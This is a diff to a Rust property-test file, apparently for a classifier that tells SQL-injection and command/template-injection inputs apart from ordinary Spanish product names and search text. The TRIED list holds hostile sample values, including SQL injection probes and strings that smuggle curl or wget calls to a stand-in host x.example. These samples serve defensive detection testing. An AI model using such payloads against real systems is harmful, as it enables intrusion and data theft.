@@ -3,7 +3,7 @@ use proptest::prelude::*;
 use super::*;
 
 /// What tools and lists of tricks send, as the value of a parameter.
-const TRIED: [(&str, Sign); 67] = [
+const TRIED: [(&str, Sign); 76] = [
     ("' or 1=1", Sign::Sql),
     ("x' OR '1'='1", Sign::Sql),
     ("x' oR/**/'a'='a'--", Sign::Sql),
@@ -71,10 +71,19 @@ const TRIED: [(&str, Sign); 67] = [
     ("{{7*7}}", Sign::Lookup),
     ("{{''.__class__.__mro__}}", Sign::Lookup),
     ("x;curl http://x/a.sh", Sign::Lookup),
+    ("x | curl -s x.example", Sign::Lookup),
+    ("x |||& wget //x.example/a", Sign::Lookup),
+    ("1' and 2 in (1,2) and 'a", Sign::Sql),
+    ("x' or 1 is 'a", Sign::Sql),
+    ("1'--", Sign::Sql),
+    ("1' -- -", Sign::Sql),
+    ("1\")--", Sign::Sql),
+    ("1\") -- -", Sign::Sql),
+    ("1 and ((( (select count(*) from person)))>0", Sign::Sql),
 ];
 
 /// What people search for, call their goods and are called.
-const USUAL: [&str; 74] = [
+const USUAL: [&str; 86] = [
     "Café La Virginia 500 g",
     "O'Higgins",
     "O'Brien",
@@ -149,6 +158,18 @@ const USUAL: [&str; 74] = [
     "Rock 'n' roll",
     "5' & 6'",
     "\"Comillas\" (y paréntesis); $ 1.000,50 | #1 `x`",
+    "Notebook 14\" and 2 in 1",
+    "'Kids' and 2 in 1 shampoo",
+    "Monitor 24\" and 2 is 1",
+    "TV (32\") -- Samsung",
+    "TV (32\") --",
+    "Caño (1/2\") -- galvanizado",
+    "(\"oferta\") -- x",
+    "Manguera 6'-- roja",
+    "Soga (6') -- roja",
+    "Elvive | Curl Definer",
+    "Crema; curl control",
+    "Crema; curl -- control",
 ];
 
 fn escaped_of(text: &str) -> String {
@@ -223,7 +244,7 @@ fn a_path_is_climbed_by_one_step_already() {
 }
 
 /// Words of goods and of what people write about them, also those that stand in statements and scripts.
-const WORDS: [&str; 39] = [
+const WORDS: [&str; 48] = [
     "yerba",
     "Café",
     "O'Higgins",
@@ -263,6 +284,15 @@ const WORDS: [&str; 39] = [
     "c/u",
     "+",
     "ñandú",
+    "in",
+    "is",
+    "between",
+    "curl",
+    "|",
+    "(32\")",
+    "(32\") --",
+    "(6') --",
+    "6'-- roja",
 ];
 
 proptest! {
